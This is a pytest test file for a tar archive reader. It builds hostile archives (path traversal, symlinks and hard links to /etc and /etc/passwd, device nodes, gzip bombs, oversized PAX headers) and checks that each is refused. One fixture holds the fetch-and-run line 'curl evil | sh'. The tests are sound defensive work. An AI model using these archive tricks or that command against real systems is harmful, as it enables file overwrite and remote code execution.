"""containai.archive.reader: hostile, broken and well-formed export archives, all built here
(``builders.py``), scanned and verified against their manifest."""

from __future__ import annotations

import gzip
import io
import json
import os
import re
import shutil
import subprocess
import tarfile
import tracemalloc
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from containai.archive.members import UnsafeMember
from containai.archive.reader import scan_archive, verify_archive
from containai.archive.schema import (
    MANIFEST_NAME,
)
from containai.errors import ArchiveError
from tests.support.tars import tar_bytes
from tests.unit.archive.builders import (
    LIMIT,
    Member,
    MiB,
    folder,
    good_manifest_document,
    hard,
    manifest_doc,
    manifest_member,
    node,
    raw_member,
    reg,
    regular_contents,
    sha,
    sym,
    with_manifest,
    write_latin1_tgz,
    write_tgz,
)

# --------------------------------------------------------------------------- hostile cases


Build = Callable[[Path], object]


@dataclass(frozen=True)
class Hostile:
    build: Build
    expect: tuple[str, ...]  # fragments of the message; "{path}" is the archive's path
    limit: int = LIMIT
    max_members: int = 1_000_000
    manifest_mismatch: bool = False  # verify_archive reports it instead of raising


def members_case(*members: Member) -> Build:
    return lambda path: write_tgz(path, members)


def hostile(
    case_id: str,
    build: Build,
    *expect: str,
    limit: int = LIMIT,
    max_members: int = 1_000_000,
    manifest_mismatch: bool = False,
) -> Any:
    return pytest.param(Hostile(build, expect, limit, max_members, manifest_mismatch), id=case_id)


def build_nul_name(path: Path) -> None:
    # ustar cuts names at NUL; a PAX path record (forced by the non-ASCII letter) keeps it.
    members = [reg("é\0hidden", b"x")]
    with tarfile.open(fileobj=io.BytesIO(tar_bytes(members))) as tar:
        if "\0" not in tar.getnames()[0]:
            pytest.skip("tarfile cannot write a name containing NUL")
    write_tgz(path, members)


def build_truncated_gzip(path: Path) -> None:
    data = gzip.compress(tar_bytes(with_manifest([reg("random.bin", os.urandom(256 * 1024))])))
    path.write_bytes(data[: len(data) // 2])


def build_bad_crc(path: Path) -> None:
    data = bytearray(gzip.compress(tar_bytes([reg("a.txt", b"hello")])))
    data[-8] ^= 0xFF  # the gzip trailer's CRC32
    path.write_bytes(bytes(data))


def build_flipped_byte(path: Path) -> None:
    good = [folder("notes"), reg("notes/todo.txt", b"remember the milk\n")]
    manifest = manifest_member(manifest_doc(regular_contents(good)).to_json())
    bad = [folder("notes"), reg("notes/todo.txt", b"remember the silk\n"), manifest]
    write_tgz(path, bad)


def build_resized(path: Path) -> None:
    manifest = manifest_member(manifest_doc({"a.txt": b"short"}).to_json())
    write_tgz(path, [reg("a.txt", b"much longer"), manifest])


def build_missing(path: Path) -> None:
    files = {"kept.txt": b"kept", "gone.txt": b"gone"}
    write_tgz(path, [reg("kept.txt", b"kept"), manifest_member(manifest_doc(files).to_json())])


def build_extra(path: Path) -> None:
    manifest = manifest_member(manifest_doc({"a.txt": b"a"}).to_json())
    write_tgz(path, [reg("a.txt", b"a"), reg("smuggled.sh", b"curl evil | sh"), manifest])


def manifest_json_case(document: object) -> Build:
    data = json.dumps(document).encode()
    return members_case(reg("a.txt", b"a"), manifest_member(data))


def build_pax_chain(path: Path) -> None:
    record = b"13 comment=x\n"
    chain = [raw_member("PaxHeader", tarfile.XHDTYPE, record) for _ in range(20)]
    write_tgz(path, [*chain, reg("a.txt", b"a")])


def build_huge_pax_header(path: Path) -> None:
    value = b"x" * (2 * MiB)
    body = b" comment=" + value + b"\n"
    length = len(body)
    length += len(str(length + len(str(length))))
    write_tgz(path, [raw_member("PaxHeader", tarfile.XHDTYPE, str(length).encode() + body)])


def build_no_end_marker(path: Path) -> None:
    # Header plus one padded data block, then nothing: the gzip layer is intact.
    path.write_bytes(gzip.compress(tar_bytes([reg("a.txt", b"hello")])[:1024]))


def build_garbage_header(path: Path) -> None:
    data = tar_bytes([reg("a.txt", b"hello")])[:1024] + os.urandom(512) + bytes(1024)
    path.write_bytes(gzip.compress(data))


def build_trailing_bomb(path: Path) -> None:
    path.write_bytes(gzip.compress(tar_bytes([reg("a.txt", b"hello")]) + bytes(8 * MiB)))


def build_plain_tar(path: Path) -> None:
    path.write_bytes(tar_bytes([reg("a.txt", b"hello")]))


LONG_NAME = "/".join(["n" * 99] * 50) + "x"  # 5000 bytes


HOSTILE = [
    # names
    hostile(
        "absolute-name",
        members_case(reg("/etc/cron.d/evil", b"x")),
        "'/etc/cron.d/evil'",
        "absolute",
    ),
    hostile("dotdot-in-middle", members_case(reg("a/../../evil", b"x")), "'a/../../evil'", "'..'"),
    hostile("dotdot-at-start", members_case(reg("../evil", b"x")), "'../evil'", "'..'"),
    hostile("dot-slash-dotdot", members_case(reg("./../evil", b"x")), "'./../evil'", "'..'"),
    hostile("empty-component", members_case(reg("a//b", b"x")), "'a//b'", "empty or '.'"),
    hostile("dot-component", members_case(reg("a/./b", b"x")), "'a/./b'", "empty or '.'"),
    hostile("double-dot-slash", members_case(reg("././a", b"x")), "'././a'", "empty or '.'"),
    hostile("dot-slash-absolute", members_case(reg(".//etc/x", b"x")), "'.//etc/x'", "absolute"),
    hostile("long-name", members_case(reg(LONG_NAME, b"x")), "'nnnnnnnnnn", "(5000 bytes)", "4096"),
    hostile("long-component", members_case(reg("a/" + "c" * 300, b"x")), "'a/ccccc", "255 bytes"),
    hostile("nul-in-name", build_nul_name, "'é\\x00hidden'", "NUL"),
    hostile("newline-in-unsafe-name", members_case(reg("../x\nforged", b"x")), "'../x\\nforged'"),
    hostile("root-entry-is-a-file", members_case(reg(".", b"x")), "'.'", "root"),
    # writing through links
    hostile(
        "file-through-symlink",
        members_case(folder("sub"), sym("link", "sub"), reg("link/x", b"x")),
        "'link/x'",
        "through the symlink 'link'",
    ),
    hostile(
        "dir-through-symlink",
        members_case(folder("sub"), sym("link", "sub"), folder("link/d")),
        "'link/d'",
        "through the symlink 'link'",
    ),
    hostile(
        "file-under-a-file",
        members_case(reg("a", b"x"), reg("a/b", b"y")),
        "'a/b'",
        "not a directory",
    ),
    hostile(
        "parent-later-turned-symlink",
        members_case(reg("a/x", b"x"), sym("a", "b")),
        "'a'",
        "made it a dir",
    ),
    # symlinks
    hostile("symlink-to-etc", members_case(sym("etc", "/etc")), "'etc'", "'/etc' is absolute"),
    hostile(
        "symlink-escapes",
        members_case(folder("a"), sym("a/b", "../../x")),
        "'a/b'",
        "escapes the archive root",
    ),
    hostile("symlink-to-parent-of-root", members_case(sym("up", "..")), "'up'", "escapes"),
    hostile(
        "symlink-climbs-through-symlink",
        members_case(folder("d"), sym("d/up", ".."), sym("d/t", "up/../x")),
        "'d/t'",
        "'..' after a normal component",
    ),
    hostile("symlink-empty-target", members_case(sym("l", "")), "'l'", "empty target"),
    # hard links
    hostile(
        "hardlink-to-etc-passwd",
        members_case(hard("passwd", "/etc/passwd")),
        "'passwd'",
        "'/etc/passwd' is absolute",
    ),
    hostile(
        "hardlink-to-unknown",
        members_case(hard("h", "nowhere")),
        "'h'",
        "not an earlier regular file",
    ),
    hostile("hardlink-escapes", members_case(hard("h", "../x")), "'h'", "escapes"),
    hostile(
        "hardlink-to-directory",
        members_case(folder("d"), hard("h", "d")),
        "'h'",
        "not an earlier regular file",
    ),
    hostile(
        "hardlink-to-later-file",
        members_case(hard("h", "f"), reg("f", b"x")),
        "'h'",
        "not an earlier regular file",
    ),
    hostile(
        "hardlink-to-manifest",
        members_case(
            reg("a.txt", b"a"),
            manifest_member(manifest_doc({"a.txt": b"a"}).to_json()),
            hard("h", MANIFEST_NAME),
        ),
        "'h'",
        "hard link to the export manifest",
    ),
    # special files
    hostile(
        "char-device",
        members_case(node("dev/mem", tarfile.CHRTYPE)),
        "'dev/mem'",
        "character device",
    ),
    hostile(
        "block-device", members_case(node("dev/sda", tarfile.BLKTYPE)), "'dev/sda'", "block device"
    ),
    hostile("fifo", members_case(node("pipe", tarfile.FIFOTYPE)), "'pipe'", "FIFO"),
    hostile(
        "unknown-type", members_case(raw_member("odd", b"Z", b"")), "'odd'", "unsupported tar type"
    ),
    # duplicates
    hostile(
        "dup-dir-then-file",
        members_case(folder("a"), reg("a", b"x")),
        "'a'",
        "a dir, this one a file",
    ),
    hostile(
        "dup-file-then-dir",
        members_case(reg("a", b"x"), folder("a")),
        "'a'",
        "a file, this one a dir",
    ),
    hostile(
        "dup-file-then-symlink",
        members_case(reg("a", b"x"), sym("a", "b")),
        "'a'",
        "a file, this one a symlink",
    ),
    # size, bombs and resource limits
    hostile(
        "gzip-bomb",
        members_case(reg("zeros", bytes(3 * MiB))),
        "'zeros'",
        "1048576-byte expansion limit",
        limit=MiB,
    ),
    hostile(
        "too-many-members",
        members_case(*(reg(f"f{i}", b"x") for i in range(5))),
        "{path} has more than 3 members",
        "'f3'",
        max_members=3,
    ),
    hostile("pax-header-chain", build_pax_chain, "{path} is corrupt", "chained extension headers"),
    hostile("huge-pax-header", build_huge_pax_header, "{path} is corrupt", "headers exceed"),
    hostile("trailing-bomb", build_trailing_bomb, "{path} is corrupt", "after the end of the tar"),
    # unreadable archives
    hostile(
        "truncated-gzip",
        build_truncated_gzip,
        "{path} is truncated or corrupt",
        "in member 'random.bin'",
    ),
    hostile("bad-gzip-crc", build_bad_crc, "{path} is truncated or corrupt", "CRC"),
    hostile("no-end-of-archive-marker", build_no_end_marker, "{path} is corrupt", "end-of-archive"),
    hostile("garbage-header", build_garbage_header, "{path} is corrupt", "invalid tar header"),
    hostile(
        "gzip-but-not-tar",
        lambda path: path.write_bytes(gzip.compress(b"just some text\n" * 100)),
        "{path} is truncated or corrupt",
    ),
    hostile(
        "not-gzip",
        lambda path: path.write_text("hello, I am a text file\n"),
        "{path} is not a gzip-compressed tar archive",
    ),
    hostile(
        "plain-tar", build_plain_tar, "{path} is not a gzip-compressed tar", "uncompressed tar"
    ),
    hostile("empty-file", lambda path: path.write_bytes(b""), "{path} is empty"),
    # the manifest
    hostile(
        "manifest-lists-missing-file",
        build_missing,
        "'gone.txt' is in the manifest but not in the archive",
        manifest_mismatch=True,
    ),
    hostile(
        "extra-file-not-in-manifest",
        build_extra,
        "'smuggled.sh' is not listed in the manifest",
        manifest_mismatch=True,
    ),
    hostile(
        "flipped-content-byte",
        build_flipped_byte,
        "archive member 'notes/todo.txt' is corrupt: sha256 mismatch",
        manifest_mismatch=True,
    ),
    hostile(
        "content-resized",
        build_resized,
        "archive member 'a.txt' is corrupt: size mismatch",
        manifest_mismatch=True,
    ),
    hostile(
        "manifest-bad-json",
        members_case(reg("a.txt", b"a"), manifest_member(b'{"format": "containai-export",')),
        f"'{MANIFEST_NAME}'",
        "not valid JSON",
    ),
    hostile(
        "manifest-wrong-format",
        manifest_json_case(good_manifest_document(format="something-else")),
        f"'{MANIFEST_NAME}'",
        "'something-else'",
    ),
    hostile(
        "manifest-future-version",
        manifest_json_case(good_manifest_document(format_version=2)),
        f"'{MANIFEST_NAME}'",
        "unsupported format_version 2",
    ),
    hostile(
        "manifest-is-a-directory",
        members_case(reg("a.txt", b"a"), folder(MANIFEST_NAME)),
        f"'{MANIFEST_NAME}'",
        "must be a regular file, not a dir",
    ),
    hostile(
        "manifest-is-a-symlink",
        members_case(reg("a.txt", b"a"), sym(MANIFEST_NAME, "../a.txt")),
        f"'{MANIFEST_NAME}'",
        "must be a regular file, not a symlink",
    ),
]


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_archive_is_refused_with_a_one_line_message(tmp_path: Path, case: Hostile) -> None:
    path = tmp_path / "export.tgz"
    case.build(path)

    with pytest.raises(ArchiveError) as caught:
        scan_archive(path, max_expanded_bytes=case.limit, max_members=case.max_members)

    message = str(caught.value)
    assert "\n" not in message
    assert len(message.splitlines()) == 1
    for fragment in case.expect:
        assert fragment.format(path=path) in message


@pytest.mark.parametrize("case", [p for p in HOSTILE if not p.values[0].manifest_mismatch])
def test_verify_also_refuses_unsafe_or_unreadable_archives(tmp_path: Path, case: Hostile) -> None:
    path = tmp_path / "export.tgz"
    case.build(path)

    with pytest.raises(ArchiveError):
        verify_archive(path, max_expanded_bytes=case.limit, max_members=case.max_members)


def test_missing_archive_file_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(ArchiveError, match=r"cannot read .*nope\.tgz"):
        scan_archive(tmp_path / "nope.tgz", max_expanded_bytes=LIMIT)


# --------------------------------------------------------------------------- safe archives


SAFE_MEMBERS: list[Member] = [
    folder("."),
    folder("./a"),
    folder("./a/b"),
    reg("./a/b/deep.txt", b"deep\n", mode=0o600),
    folder("./empty"),
    folder("./b"),
    reg("./b/file", b"target content"),
    sym("./a/link", "../b/file"),
    sym("./a/b/up", "../../b"),
    sym("./here", "."),
    hard("./a/hard", "./b/file"),
    folder("./ünï"),
    reg("./ünï/名前.txt", "grüße, 世界\n".encode()),
    # Same name, kind and content: harmless, the last one's metadata wins. (Other content
    # would be bytes the manifest does not list: see the duplicate tests below.)
    reg("./a/b/deep.txt", b"deep\n", mode=0o640),
]


def test_safe_archive_is_indexed_in_archive_order(tmp_path: Path) -> None:
    path = tmp_path / "export.tgz"
    write_tgz(path, with_manifest(SAFE_MEMBERS))

    index = scan_archive(path, max_expanded_bytes=LIMIT)

    assert index.manifest is not None
    assert index.manifest.volume_name == "containai-data"
    assert [(e.name, e.kind) for e in index.entries] == [
        ("a", "dir"),
        ("a/b", "dir"),
        ("a/b/deep.txt", "file"),
        ("empty", "dir"),
        ("b", "dir"),
        ("b/file", "file"),
        ("a/link", "symlink"),
        ("a/b/up", "symlink"),
        ("here", "symlink"),
        ("a/hard", "hardlink"),
        ("ünï", "dir"),
        ("ünï/名前.txt", "file"),
        ("a/b/deep.txt", "file"),
    ]
    by_name = {e.name: e for e in index.entries}  # later duplicates win
    assert by_name["a/b/deep.txt"].sha256 == sha(b"deep\n")
    assert by_name["a/b/deep.txt"].mode == 0o640
    assert by_name["ünï/名前.txt"].sha256 == sha("grüße, 世界\n".encode())
    assert by_name["a/link"].linkname == "../b/file"
    assert by_name["a/hard"].linkname == "b/file"
    assert (by_name["a/hard"].size, by_name["a/hard"].sha256) == (0, None)
    assert by_name["empty"].sha256 is None
    assert by_name["b/file"].mtime == 1_700_000_000.0
    content = sum(len(d or b"") for i, d in SAFE_MEMBERS if i.type == tarfile.REGTYPE)
    manifest_size = len(manifest_doc(regular_contents(SAFE_MEMBERS)).to_json())
    assert index.expanded_bytes == content + manifest_size


def test_safe_archive_verifies_clean(tmp_path: Path) -> None:
    path = tmp_path / "export.tgz"
    write_tgz(path, with_manifest(SAFE_MEMBERS))

    report = verify_archive(path, max_expanded_bytes=LIMIT)

    assert report.ok
    assert not report.no_manifest
    assert (report.missing, report.extra, report.corrupt) == ((), (), ())
    assert report.index.manifest is not None


def test_archive_without_manifest_is_accepted(tmp_path: Path) -> None:
    path = tmp_path / "upstream.tgz"
    write_tgz(path, SAFE_MEMBERS)

    index = scan_archive(path, max_expanded_bytes=LIMIT)
    report = verify_archive(path, max_expanded_bytes=LIMIT)

    assert index.manifest is None
    assert len(index.entries) == len(SAFE_MEMBERS) - 1  # the root entry is dropped
    assert report.no_manifest
    assert report.ok


def test_archive_without_manifest_is_still_safety_checked(tmp_path: Path) -> None:
    path = tmp_path / "upstream.tgz"
    write_tgz(path, [*SAFE_MEMBERS, reg("./a/link/oops", b"x")])

    with pytest.raises(UnsafeMember, match=re.escape("'./a/link/oops'")):
        scan_archive(path, max_expanded_bytes=LIMIT)


def test_empty_tar_is_an_empty_index(tmp_path: Path) -> None:
    path = tmp_path / "empty.tgz"
    write_tgz(path, [])

    index = scan_archive(path, max_expanded_bytes=LIMIT)

    assert (index.manifest, index.entries, index.expanded_bytes) == (None, (), 0)


def test_gnu_format_long_names_are_read(tmp_path: Path) -> None:
    name = "deep/" + "x" * 200
    path = tmp_path / "gnu.tgz"
    path.write_bytes(gzip.compress(tar_bytes([reg(name, b"gnu")], fmt=tarfile.GNU_FORMAT)))

    index = scan_archive(path, max_expanded_bytes=LIMIT)

    assert [e.name for e in index.entries] == [name]


def test_expansion_limit_is_inclusive(tmp_path: Path) -> None:
    path = tmp_path / "exact.tgz"
    write_tgz(path, [reg("a", bytes(1000)), reg("b", bytes(24))])

    assert scan_archive(path, max_expanded_bytes=1024).expanded_bytes == 1024
    with pytest.raises(ArchiveError, match="'b'"):
        scan_archive(path, max_expanded_bytes=1023)


def test_scan_streams_in_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "big.tgz"
    big = bytes(48 * MiB)
    members = [*(reg(f"small/{i}", b"x" * i) for i in range(2000)), reg("big.bin", big)]
    write_tgz(path, with_manifest(members))
    del big, members

    tracemalloc.start()
    try:
        index = scan_archive(path, max_expanded_bytes=LIMIT)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert index.entries[-1].sha256 == sha(bytes(48 * MiB))
    assert peak < 8 * MiB  # chunks and the per-member index, never the 48 MiB member


@pytest.mark.skipif(shutil.which("tar") is None, reason="needs the tar program")
def test_archive_from_tar_czf_is_accepted(tmp_path: Path) -> None:
    tree = tmp_path / "volume"
    (tree / ".config" / "app").mkdir(parents=True)
    (tree / ".config" / "app" / "settings.json").write_text('{"theme": "dark"}')
    (tree / ".bashrc").write_text("export EDITOR=vim\n")
    (tree / ".config" / "current").symlink_to("app")
    archive = tmp_path / "upstream.tgz"
    subprocess.run(["tar", "czf", str(archive), "-C", str(tree), "."], check=True)

    index = scan_archive(archive, max_expanded_bytes=LIMIT)

    names = {e.name: e for e in index.entries}
    assert names[".config/app/settings.json"].sha256 == sha(b'{"theme": "dark"}')
    assert names[".config/current"].kind == "symlink"
    assert names[".bashrc"].kind == "file"
    assert index.manifest is None


# --------------------------------------------------------------------------- manifest comparison


def build_three_problems(path: Path) -> None:
    listed = {"same.txt": b"same", "changed.txt": b"before", "gone.txt": b"gone"}
    manifest = manifest_member(manifest_doc(listed).to_json())
    members = [
        reg("same.txt", b"same"),
        reg("extra.txt", b"extra"),
        reg("changed.txt", b"after!"),
        manifest,
    ]
    write_tgz(path, members)


def test_verify_reports_missing_extra_and_corrupt_separately(tmp_path: Path) -> None:
    path = tmp_path / "export.tgz"
    build_three_problems(path)

    report = verify_archive(path, max_expanded_bytes=LIMIT)

    assert report.missing == ("gone.txt",)
    assert report.extra == ("extra.txt",)
    assert report.corrupt == ("changed.txt",)
    assert not report.ok
    assert not report.no_manifest


def test_scan_names_the_first_mismatch_and_counts_the_rest(tmp_path: Path) -> None:
    path = tmp_path / "export.tgz"
    build_three_problems(path)

    with pytest.raises(ArchiveError) as caught:
        scan_archive(path, max_expanded_bytes=LIMIT)

    assert str(caught.value) == (
        "archive member 'changed.txt' is corrupt: sha256 mismatch (and 2 more manifest mismatches)"
    )


def test_hard_links_may_be_listed_and_are_checked_against_their_target(tmp_path: Path) -> None:
    listed = {"f": b"data", "h": b"data"}
    good = tmp_path / "good.tgz"
    write_tgz(
        good, [reg("f", b"data"), hard("h", "f"), manifest_member(manifest_doc(listed).to_json())]
    )
    bad = tmp_path / "bad.tgz"
    wrong = {"f": b"data", "h": b"other"}
    write_tgz(
        bad, [reg("f", b"data"), hard("h", "f"), manifest_member(manifest_doc(wrong).to_json())]
    )

    assert verify_archive(good, max_expanded_bytes=LIMIT).ok
    assert verify_archive(bad, max_expanded_bytes=LIMIT).corrupt == ("h",)


def test_unlisted_hard_links_are_not_extra(tmp_path: Path) -> None:
    path = tmp_path / "export.tgz"
    listed = {"f": b"data"}
    write_tgz(
        path, [reg("f", b"data"), hard("h", "f"), manifest_member(manifest_doc(listed).to_json())]
    )

    assert verify_archive(path, max_expanded_bytes=LIMIT).ok


def test_manifest_listing_a_symlink_counts_as_missing(tmp_path: Path) -> None:
    path = tmp_path / "export.tgz"
    listed = {"f": b"data", "l": b"data"}
    write_tgz(
        path, [reg("f", b"data"), sym("l", "f"), manifest_member(manifest_doc(listed).to_json())]
    )

    assert verify_archive(path, max_expanded_bytes=LIMIT).missing == ("l",)


def test_names_that_are_not_utf8_survive_as_surrogates(tmp_path: Path) -> None:
    path = tmp_path / "latin1.tgz"
    write_latin1_tgz(path, [reg("café.txt", b"x")])

    index = scan_archive(path, max_expanded_bytes=LIMIT)

    assert [e.name for e in index.entries] == ["caf\udce9.txt"]  # the raw byte 0xe9, escaped


def test_unsafe_names_that_are_not_utf8_are_shown_escaped(tmp_path: Path) -> None:
    path = tmp_path / "latin1.tgz"
    write_latin1_tgz(path, [reg("../évil\x1b[2J", b"y")])

    with pytest.raises(UnsafeMember) as caught:
        scan_archive(path, max_expanded_bytes=LIMIT)

    assert str(caught.value).startswith("unsafe archive member '../\\udce9vil\\x1b[2J': ")


def test_the_reader_tells_how_much_of_the_file_it_read(tmp_path: Path) -> None:
    path = tmp_path / "x.tgz"
    write_tgz(path, with_manifest([reg("a.txt", os.urandom(300_000)), reg("b.txt", b"b")]))
    told: list[int] = []

    scan_archive(path, max_expanded_bytes=LIMIT, advance=told.append)
    verify_archive(path, max_expanded_bytes=LIMIT, advance=told.append)

    assert sum(told) == 2 * path.stat().st_size and len(told) > 2
